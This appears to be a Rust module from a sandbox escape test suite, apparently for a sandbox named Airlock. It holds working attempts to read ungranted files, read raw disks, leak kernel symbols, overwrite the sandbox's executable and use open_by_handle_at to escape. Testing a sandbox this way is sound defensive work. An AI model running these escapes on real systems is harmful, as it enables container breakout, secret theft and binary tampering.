//! Reading files that were not granted, by every road to a path.

use crate::Entry;
use crate::attempt::{Arguments, Attempt};
use crate::sys::{HERE, Try, at, c_path, call, drain, fd, nothing, open, open_call};
use std::fs::{self, File};
use std::os::fd::AsRawFd;
use std::path::{Path, PathBuf};

pub(crate) const ATTACKS: &[Entry] = &[
    ("read-path", read_path),
    ("list-directory", list_directory),
    ("find-in-file", find_in_file),
    ("inherited-descriptors", inherited),
    ("block-device", block_device),
    ("kernel-log", kernel_log),
    ("kernel-symbols", kernel_symbols),
    ("own-executable", own_executable),
    ("init-executable", init_executable),
    ("handle", by_handle),
    ("fanotify", fanotify),
];

/// The bytes as evidence, if they are what was hoped for.
pub(crate) fn judged(bytes: &[u8], marker: &str) -> Try {
    let text = String::from_utf8_lossy(bytes);
    if bytes.is_empty() {
        return nothing("EMPTY");
    }
    if !marker.is_empty() && !text.contains(marker) {
        return nothing("OTHER-CONTENT");
    }
    Ok(text.into_owned())
}

pub(crate) fn plainly(path: &Path, marker: &str) -> Try {
    judged(&drain(open(path, libc::O_RDONLY)?)?, marker)
}

/// `openat2` with nothing asked of the resolution.
pub(crate) fn by_openat2(path: &Path, marker: &str) -> Try {
    let how: [u64; 3] = [libc::O_RDONLY as u64, 0, 0];
    let path = c_path(path)?;
    let descriptor = open_call(
        libc::SYS_openat2,
        &[
            HERE,
            at(path.as_bytes_with_nul()),
            at(&how),
            size_of_val(&how),
        ],
    )?;
    judged(&drain(descriptor)?, marker)
}

/// A descriptor that names the file without opening it, opened again through `/proc`.
pub(crate) fn by_reopening(path: &Path, marker: &str) -> Try {
    let named = open(path, libc::O_PATH)?;
    let again = PathBuf::from(format!("/proc/self/fd/{}", named.as_raw_fd()));
    plainly(&again, marker)
}

pub(crate) fn by_mapping(path: &Path, marker: &str) -> Try {
    let descriptor = open(path, libc::O_RDONLY)?;
    let size = File::from(descriptor.try_clone()?).metadata()?.len() as usize;
    let length = size.clamp(1, 4096);
    let start = call(
        libc::SYS_mmap,
        &[
            0,
            length,
            libc::PROT_READ as usize,
            libc::MAP_PRIVATE as usize,
            fd(&descriptor),
            0,
        ],
    )?;
    if size == 0 {
        return nothing("EMPTY");
    }
    // SAFETY: the kernel mapped `length` readable bytes of a file that has at least as many.
    let bytes = unsafe { std::slice::from_raw_parts(start as *const u8, length) };
    judged(bytes, marker)
}

/// Lets the kernel copy the bytes into a pipe.
pub(crate) fn by_sendfile(path: &Path, marker: &str) -> Try {
    let descriptor = open(path, libc::O_RDONLY)?;
    let (reader, writer) = std::io::pipe()?;
    let sent = call(libc::SYS_sendfile, &[fd(&writer), fd(&descriptor), 0, 4096])?;
    drop(writer);
    if sent == 0 {
        return nothing("EMPTY");
    }
    judged(&drain(reader.into())?, marker)
}

/// `path` below a magic link to a root.
pub(crate) fn below(root: &str, path: &Path) -> PathBuf {
    Path::new(root).join(path.strip_prefix("/").unwrap_or(path))
}

/// `path` from here, by as many `..` as it takes.
pub(crate) fn upwards(path: &Path) -> PathBuf {
    below("../../../../../../../../../../../../../../../..", path)
}

fn read_path(arguments: &Arguments, attempt: &mut Attempt) {
    let marker = arguments.text("marker");
    for path in arguments.list("paths").iter().map(Path::new) {
        let shown = path.display();
        attempt.route(format!("openat {shown}"), || plainly(path, &marker));
        attempt.route(format!("openat2 {shown}"), || by_openat2(path, &marker));
        attempt.route("openat ../..", || plainly(&upwards(path), &marker));
        for root in ["/proc/self/root", "/proc/1/root", "/proc/self/task/../root"] {
            attempt.route(format!("openat {root}"), || {
                plainly(&below(root, path), &marker)
            });
        }
        attempt.route("O_PATH and again", || by_reopening(path, &marker));
    }
}

fn list_directory(arguments: &Arguments, attempt: &mut Attempt) {
    let marker = arguments.text("marker");
    for path in arguments.list("paths").iter().map(Path::new) {
        for path in [path.to_owned(), upwards(path), below("/proc/1/root", path)] {
            attempt.route(format!("getdents64 {}", path.display()), || {
                let names: Vec<String> = fs::read_dir(&path)?
                    .flatten()
                    .map(|entry| entry.file_name().to_string_lossy().into_owned())
                    .collect();
                judged(names.join(" ").as_bytes(), &marker)
            });
        }
    }
}

/// A word in a file anyone may open.
fn find_in_file(arguments: &Arguments, attempt: &mut Attempt) {
    let marker = arguments.text("marker");
    for path in arguments.list("paths") {
        attempt.route(format!("read {path}"), || {
            let bytes = drain(open(Path::new(&path), libc::O_RDONLY)?)?;
            let text = String::from_utf8_lossy(&bytes);
            let line = text.lines().find(|line| line.contains(&marker));
            line.map_or_else(|| nothing("NOT-THERE"), |line| Ok(line.to_owned()))
        });
    }
}

fn inherited(arguments: &Arguments, attempt: &mut Attempt) {
    let marker = arguments.text("marker");
    for number in 3..1024 {
        // SAFETY: takes no pointer.
        if unsafe { libc::fcntl(number, libc::F_GETFD) } < 0 {
            continue;
        }
        attempt.route(format!("pread {number}"), || {
            let mut bytes = [0_u8; 256];
            let read = call(
                libc::SYS_pread64,
                &[number as usize, bytes.as_mut_ptr() as usize, bytes.len(), 0],
            )?;
            judged(bytes.get(..read).unwrap_or_default(), &marker)
        });
        attempt.route(format!("recvfrom {number}"), || {
            let mut bytes = [0_u8; 256];
            let read = call(
                libc::SYS_recvfrom,
                &[
                    number as usize,
                    bytes.as_mut_ptr() as usize,
                    bytes.len(),
                    (libc::MSG_DONTWAIT | libc::MSG_PEEK) as usize,
                ],
            )?;
            judged(bytes.get(..read).unwrap_or_default(), &marker)
        });
    }
    attempt.route("look for descriptors", || nothing("NONE-OPEN"));
}

/// A node for the disk's numbers where the attacker can write, then the disk's first block.
fn block_device(arguments: &Arguments, attempt: &mut Attempt) {
    let device = arguments.number("device") as usize;
    for place in arguments.list("places") {
        let node = Path::new(&place).join(format!("disk-{}", std::process::id()));
        let mode = (libc::S_IFBLK | 0o666) as usize;
        attempt.route(format!("mknodat {place}"), || {
            let path = c_path(&node)?;
            call(
                libc::SYS_mknodat,
                &[HERE, at(path.as_bytes_with_nul()), mode, device],
            )?;
            let opened = open(&node, libc::O_RDONLY);
            let _ = fs::remove_file(&node);
            let mut block = [0_u8; 512];
            let opened = opened?;
            let read = call(
                libc::SYS_read,
                &[fd(&opened), block.as_mut_ptr() as usize, block.len()],
            )?;
            Ok(format!("read {read} bytes of the disk"))
        });
    }
    for path in arguments.list("paths") {
        attempt.route(format!("openat {path}"), || {
            let opened = open(Path::new(&path), libc::O_RDONLY)?;
            let mut block = [0_u8; 512];
            let read = call(
                libc::SYS_read,
                &[fd(&opened), block.as_mut_ptr() as usize, block.len()],
            )?;
            Ok(format!("read {read} bytes of {path}"))
        });
    }
}

fn kernel_log(_: &Arguments, attempt: &mut Attempt) {
    let mut buffer = vec![0_u8; 4096];
    attempt.route("syslog", || {
        let read = call(
            libc::SYS_syslog,
            &[3, buffer.as_mut_ptr() as usize, buffer.len()],
        )?;
        judged(buffer.get(..read).unwrap_or_default(), "")
    });
    for path in ["/dev/kmsg", "/proc/kmsg"] {
        attempt.route(format!("openat {path}"), || {
            let descriptor = open(Path::new(path), libc::O_RDONLY | libc::O_NONBLOCK)?;
            let mut bytes = [0_u8; 1024];
            let read = call(
                libc::SYS_read,
                &[fd(&descriptor), bytes.as_mut_ptr() as usize, bytes.len()],
            )?;
            judged(bytes.get(..read).unwrap_or_default(), "")
        });
    }
}

/// Addresses that defeat the kernel's randomisation.
fn kernel_symbols(_: &Arguments, attempt: &mut Attempt) {
    for path in ["/proc/kallsyms", "/proc/self/root/proc/kallsyms"] {
        attempt.route(format!("read {path}"), || {
            let bytes = drain(open(Path::new(path), libc::O_RDONLY)?)?;
            let text = String::from_utf8_lossy(&bytes).into_owned();
            if text.is_empty() {
                return nothing("EMPTY");
            }
            let shown = text.lines().find(|line| {
                let address = line.split(' ').next().unwrap_or_default();
                address.len() == 16 && !address.trim_start_matches('0').is_empty()
            });
            shown.map_or_else(|| nothing("ZEROED"), |line| Ok(line.to_owned()))
        });
    }
}

/// Writing to the program that runs, as a later run of it on the host would execute it.
fn own_executable(arguments: &Arguments, attempt: &mut Attempt) {
    let program = arguments.path("program");
    attempt.route("openat /proc/self/exe for writing", || {
        open(Path::new("/proc/self/exe"), libc::O_WRONLY)?;
        Ok("opened the running program for writing".to_owned())
    });
    attempt.route("O_PATH, then again once nothing runs it", || {
        let named = open(&program, libc::O_PATH)?;
        let again = PathBuf::from(format!("/proc/self/fd/{}", named.as_raw_fd()));
        let opened = open(&again, libc::O_WRONLY | libc::O_APPEND)?;
        call(libc::SYS_write, &[fd(&opened), at(b"\0".as_slice()), 1])?;
        Ok("wrote to the program".to_owned())
    });
    attempt.route("openat for writing", || {
        let opened = open(&program, libc::O_WRONLY | libc::O_APPEND)?;
        call(libc::SYS_write, &[fd(&opened), at(b"\0".as_slice()), 1])?;
        Ok("wrote to the program".to_owned())
    });
    attempt.route("rename over it", || {
        let other = program.with_extension("other");
        fs::write(&other, "#!/bin/sh\n")?;
        fs::rename(&other, &program)?;
        Ok("replaced the program".to_owned())
    });
}

/// The program of the sandbox's first process is Airlock's own.
fn init_executable(arguments: &Arguments, attempt: &mut Attempt) {
    let pid = arguments.number("pid");
    let exe = PathBuf::from(format!("/proc/{pid}/exe"));
    attempt.route("readlink", || {
        let target = fs::read_link(&exe)?;
        judged(target.to_string_lossy().as_bytes(), "")
    });
    attempt.route("openat for reading", || plainly(&exe, ""));
    attempt.route("openat for writing", || {
        open(&exe, libc::O_WRONLY)?;
        Ok("opened for writing".to_owned())
    });
}

/// A file by its handle, past every path. Needs the right to read any inode of the file system.
fn by_handle(arguments: &Arguments, attempt: &mut Attempt) {
    let path = arguments.path("path");
    let marker = arguments.text("marker");
    let root = arguments.path("mount");
    attempt.route("name_to_handle_at, open_by_handle_at", || {
        let mut handle = [0_u32; 34];
        handle[0] = 128;
        let mut mount = 0_i32;
        let name = c_path(&path)?;
        call(
            libc::SYS_name_to_handle_at,
            &[
                HERE,
                at(name.as_bytes_with_nul()),
                handle.as_mut_ptr() as usize,
                &raw mut mount as usize,
                0,
            ],
        )?;
        let mount = open(&root, libc::O_RDONLY)?;
        let opened = open_call(
            libc::SYS_open_by_handle_at,
            &[
                fd(&mount),
                handle.as_ptr() as usize,
                libc::O_RDONLY as usize,
            ],
        )?;
        judged(&drain(opened)?, &marker)
    });
    attempt.route("open_by_handle_at of inode 2", || {
        let mut handle = [0_u32; 34];
        handle[0] = 8;
        handle[1] = 1;
        handle[2] = 2;
        let mount = open(&root, libc::O_RDONLY)?;
        open_call(
            libc::SYS_open_by_handle_at,
            &[
                fd(&mount),
                handle.as_ptr() as usize,
                libc::O_RDONLY as usize,
            ],
        )?;
        Ok("opened the file system's root".to_owned())
    });
}

/// Watching what others open hands out descriptors to their files.
fn fanotify(arguments: &Arguments, attempt: &mut Attempt) {
    let path = arguments.path("path");
    for class in [0_usize, 0x200] {
        attempt.route(format!("fanotify_init {class:#x}"), || {
            let group = open_call(libc::SYS_fanotify_init, &[class, libc::O_RDONLY as usize])?;
            let name = c_path(&path)?;
            call(
                libc::SYS_fanotify_mark,
                &[fd(&group), 1, 0x20, HERE, at(name.as_bytes_with_nul())],
            )?;
            Ok("watches".to_owned())
        });
    }
}
